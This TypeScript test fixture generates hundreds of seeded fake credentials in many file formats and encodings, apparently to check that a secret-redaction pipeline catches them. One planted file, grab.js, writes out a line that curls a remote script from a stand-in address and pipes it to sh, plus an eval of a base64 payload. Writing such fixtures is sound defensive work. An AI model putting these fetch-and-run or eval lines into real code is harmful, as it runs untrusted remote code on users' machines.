// Hundreds of different fake secrets, of many classes, in files of many formats and encodings: what the canary test plants.
// Drawn from a seed, so that nothing secret-looking stands in the source and every run plants the same ones.
import { type Alphabet, sample, wrapped } from '../../processors/secret/examples.ts'
import { plainSource } from './plain-source.ts'

export type Canary = {
  /** The credential as it stands in the file. */
  readonly text: string
  /** Its random part: what may be seen nowhere else. A vendor's prefix stands in every rule. */
  readonly body: string
}

export type CanaryFile = { readonly path: string; readonly content: Buffer }

export type CanaryFolder = { readonly files: readonly CanaryFile[]; readonly canaries: readonly Canary[] }

const token =
  (prefix: string, length: number, alphabet: Alphabet = 'alnum') =>
  (seed: string): Canary => {
    const body = sample(seed, alphabet, length)
    return { text: prefix + body, body }
  }

/** Tokens that are known by their form, and values that are known by the name they are given. */
const vendors: readonly ((seed: string) => Canary)[] = [
  token('ghp_', 36),
  token('gho_', 36),
  token('glpat-', 20),
  token('AKIA', 16, 'base32'),
  token('sk_live_', 24),
  token('rk_live_', 24),
  token('npm_', 36),
  token('dop_v1_', 64, 'hex'),
  token('shpat_', 32, 'hex'),
  token('hf_', 34),
  token('dckr_pat_', 27),
  token('pul-', 40, 'hex'),
  token('rubygems_', 48, 'hex'),
  token('GOCSPX-', 28),
  token('sbp_', 40, 'hex'),
  token('hvs.', 92),
  token('nfp_', 36),
  token('waka_', 32, 'hex'),
  token('sk-or-v1-', 64, 'hex'),
  token('glrt-', 20),
]

const password = token('', 18)
const opaque = token('', 40)
const hexKey = token('', 40, 'hex')

type Carrier = {
  readonly folder: string
  readonly name: string
  /** Lines of a file with these canaries in it. */
  readonly write: (seed: string, next: Next) => string
}

/** Draws a canary, and remembers it. */
type Next = (make: (seed: string) => Canary) => string

const some = (seed: string, next: Next): string => {
  const at = Number.parseInt(sample(seed, 'digits', 6), 10)
  return next(vendors[at % vendors.length] ?? password)
}

const number = (seed: string): number => 5_000 + Number.parseInt(sample(`${seed} number`, 'digits', 4), 10)

/** Around the line a source that the gates accept: so it becomes a sample, redacted. */
const within = (seed: string, line: string): string =>
  `${plainSource(number(seed))}\n${line}\n${plainSource(number(`${seed} after`))}`

const source = (name: string, lines: (seed: string, next: Next) => readonly string[]): Carrier => ({
  folder: 'src',
  name,
  write: (seed, next) => within(seed, lines(seed, next).join('\n')),
})

const words = 'market garden parcel window branch column letter weight signal'.split(' ')
const word = (seed: string, at: number): string =>
  words[(Number.parseInt(sample(seed, 'digits', 3), 10) + at) % words.length] ?? ''

/** Configuration that says more than its secrets. */
const filler = (seed: string, line: (name: string, value: string) => string): readonly string[] =>
  Array.from({ length: 14 }, (_, at) =>
    line(
      `${word(seed, at)}_${word(seed, at + 3)}_${'abcdefghijklmnopqrstuvwxyz'[at]}`,
      `${word(seed, at + 5)} ${sample(`${seed} ${at}`, 'lower', 9).replaceAll(/[0-9]/g, 'e')} ${word(seed, at * 2)}`,
    ),
  )

const config = (name: string, line: (name: string, value: string) => string, more: Carrier['write']): Carrier => ({
  folder: 'config',
  name,
  write: (seed, next) =>
    [
      '# SPDX-License-Identifier: MIT',
      ...filler(seed, line),
      line('client_token', some(`${seed} one`, next)),
      line('db_password', next(password)),
      more(seed, next),
      ...filler(`${seed} after`, line),
    ].join('\n'),
})

const pem =
  (label: string) =>
  (seed: string): Canary => {
    const lines = Array.from({ length: 10 }, (_, line) => sample(`${seed} ${line}`, 'base64', 64))
    const [, body = ''] = lines
    return { text: `-----BEGIN ${label}-----\n${lines.join('\n')}\n-----END ${label}-----`, body }
  }

const jwt = (seed: string): Canary => {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const body = sample(seed, 'url', 43)
  return { text: `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: '4711', iat: 1_516_242_622 })}.${body}`, body }
}

const carriers: readonly Carrier[] = [
  source('token.js', (seed, next) => [
    `export const client_token = '${some(seed, next)}'`,
    `// was ${some(`${seed} b`, next)}`,
  ]),
  source('client.ts', (seed, next) => [
    `const password: string = \`${next(password)}\``,
    `connect(password, '${some(seed, next)}')`,
  ]),
  source('store.js', (_, next) => [
    `export const url = 'postgres://desk:${next(password)}@db.parcel-desk.net:5432/desk'`,
    `export const queue = "amqps://desk:${next(password)}@queue.parcel-desk.net/desk"`,
  ]),
  source('call.js', (_, next) => [
    `fetch(address, { headers: { Authorization: 'Bearer ${next(opaque)}' } })`,
    `fetch(other, { headers: { Authorization: 'Basic ${wrapped(`desk:${next(password)}`)}' } })`,
  ]),
  source('session.js', (_, next) => [`export const session = '${next(jwt)}'`, `set_api_key('${next(hexKey)}')`]),
  source('wrapped.js', (seed, next) => [
    `export const blob = '${wrapped(`client_token = "${some(seed, next)}"\npassword = "${next(password)}"\n`)}'`,
  ]),
  source('twice.js', (_, next) => [
    `export const blob = '${wrapped(wrapped(`password = "${next(password)}"\napi_key = "${next(hexKey)}"\n`))}'`,
  ]),
  source('sign.js', (_, next) => [`export const key = \`${next(pem('RSA PRIVATE KEY'))}\``]),
  source('escaped.js', (_, next) => [
    `export const body = "{\\"user\\":\\"desk\\",\\"password\\":\\"${next(password)}\\"}"`,
    `export const lines = "api_key=${next(hexKey)}\\nend"`,
  ]),
  source('comment.js', (seed, next) => [`// password = ${next(password)}`, `// token ${some(seed, next)}`]),
  config(
    'service.yaml',
    (name, value) => `${name}: "${value}"`,
    (_, next) => `nested:\n  deeper:\n    - name: API_KEY\n      value: ${next(hexKey)}`,
  ),
  config(
    'service.properties',
    (name, value) => `${name}=${value}`,
    (_, next) => `spring.datasource.password=${next(password)}`,
  ),
  config(
    'service.toml',
    (name, value) => `${name} = "${value}"`,
    (_, next) => `[remote]\nurl = "https://desk:${next(password)}@git.parcel-desk.net/desk.git"`,
  ),
  config(
    'service.ini',
    (name, value) => `${name} = ${value}`,
    (_, next) => `passwd = ${next(password)}`,
  ),
  config(
    'desk.env',
    (name, value) => `${name.toUpperCase()}='${value}'`,
    (_, next) => `export PGPASSWORD='${next(password)}'`,
  ),
  config(
    'main.tf',
    (name, value) => `${name} = "${value}"`,
    (_, next) => `master_password = "${next(password)}"`,
  ),
  config(
    'Dockerfile',
    (name, value) => `ENV ${name.toUpperCase()}="${value}"`,
    (_, next) => `RUN curl -u desk:${next(password)} https://ci.parcel-desk.net/api`,
  ),
  {
    folder: 'config',
    name: 'service.json',
    write: (seed, next) =>
      `${JSON.stringify({ name: word(seed, 1), token: some(seed, next), db: { password: next(password) }, notes: filler(seed, (_, value) => value) }, null, 2)}\n`,
  },
  {
    folder: 'config',
    name: 'login.xml',
    write: (seed, next) =>
      `<desk>\n  <property name="password" value="${next(password)}"/>\n  <api_key>${next(hexKey)}</api_key>\n  <note>${filler(seed, (_, value) => value).join('; ')}</note>\n</desk>\n`,
  },
  {
    folder: 'docs',
    name: 'README.md',
    write: (seed, next) =>
      `# The desk of the ${word(seed, 1)}\n\nIt moves the ${word(seed, 2)} of one district to the next, and tells who has sent it.\n\n    export CLIENT_TOKEN=${some(seed, next)}\n\nPassword: \`${next(password)}\`\n\n${filler(seed, (_, value) => `It knows ${value}, and asks for the next one.`).join('\n')}\n`,
  },
  {
    folder: 'deploy',
    name: 'deploy.sh',
    write: (seed, next) =>
      `#!/bin/sh\n# SPDX-License-Identifier: MIT\n# Brings the ${word(seed, 1)} to the ${word(seed, 2)}.\nset -eu\n${filler(seed, (name, value) => `${name}='${value}'`).join('\n')}\nmysql -u root -p${next(password)} shop < dump.sql\ncurl -H "Authorization: Bearer ${next(opaque)}" https://ci.parcel-desk.net\n`,
  },
  {
    folder: 'home',
    name: '.netrc',
    write: (_, next) => `machine git.parcel-desk.net login desk password ${next(password)}\n`,
  },
  { folder: 'home', name: '.pgpass', write: (_, next) => `db.parcel-desk.net:5432:desk:desk:${next(password)}\n` },
  { folder: 'home', name: '.npmrc', write: (_, next) => `//registry.parcel-desk.net/:_authToken=${next(opaque)}\n` },
  { folder: 'home', name: 'id_rsa', write: (_, next) => `${next(pem('OPENSSH PRIVATE KEY'))}\n` },
  // What reads for evidence of a licence meets these, and they are broken just beside the secret.
  {
    folder: 'broken',
    name: 'package.json',
    write: (seed, next) => `{"license": "MIT", "token": "${some(seed, next)}" "${next(password)}"}`,
  },
  {
    folder: 'broken',
    name: 'pyproject.toml',
    write: (seed, next) => `[project]\nlicense = ${some(seed, next)}${next(password)} =\n`,
  },
  { folder: 'broken', name: 'Cargo.toml', write: (_, next) => `[package\nlicense = "${next(password)}\n` },
  {
    folder: 'broken',
    name: 'pom.xml',
    write: (_, next) => `<project><licenses><license><name>${next(password)}</license>`,
  },
  // Rejected by an earlier gate, or by this one.
  {
    folder: 'broken',
    name: 'generated.min.js',
    write: (seed, next) =>
      `var a="${some(seed, next)}",p={password:"${next(password)}"};${'var b=function(c){return c*2};'.repeat(60)}\n`,
  },
  source('leak.js', (seed, next) =>
    Array.from({ length: 24 }, (_, at) => `  keys.push('${some(`${seed} ${at}`, next)}')`),
  ),
  source('grab.js', (seed, next) => [
    `const password = "${next(password)}"`,
    `require('child_process').exec('curl -s http://203.0.113.9/${word(seed, 1)}.sh | sh')`,
    'eval(Buffer.from(payload, "base64").toString())',
  ]),
]

const encodings: readonly { readonly suffix: string; readonly encode: (text: string) => Buffer }[] = [
  { suffix: '', encode: (text) => Buffer.from(text) },
  { suffix: '', encode: (text) => Buffer.from(text) },
  { suffix: '', encode: (text) => Buffer.from(text.replaceAll('\n', '\r\n')) },
  { suffix: '', encode: (text) => Buffer.from(`\ufeff${text}`) },
  { suffix: '.utf16', encode: (text) => Buffer.from(`\ufeff${text}`, 'utf16le') },
  { suffix: '.latin1', encode: (text) => Buffer.from(`# Straße\n${text}`, 'latin1') },
  { suffix: '.nul', encode: (text) => Buffer.from(`${text}\0${text}`) },
]

/** Files with at least so many different canaries, in turn of every format and, seldom, of every encoding. */
export function canaryFolder(count: number): CanaryFolder {
  const canaries: Canary[] = []
  const files: CanaryFile[] = []
  for (let at = 0; canaries.length < count; at++) {
    const carrier = carriers[at % carriers.length] as Carrier
    const round = Math.floor(at / carriers.length)
    const next: Next = (make) => {
      const canary = make(`canary ${at} ${canaries.length}`)
      canaries.push(canary)
      return canary.text
    }
    const text = carrier.write(`canary file ${at}`, next)
    // The first rounds are plain: most of them come to the end.
    const encoding = encodings[round < 3 ? round % 2 : (at + round) % encodings.length]
    if (encoding === undefined) throw new Error('no encoding')
    files.push({ path: `${carrier.folder}/${round}/${carrier.name}${encoding.suffix}`, content: encoding.encode(text) })
  }
  return { files, canaries }
}
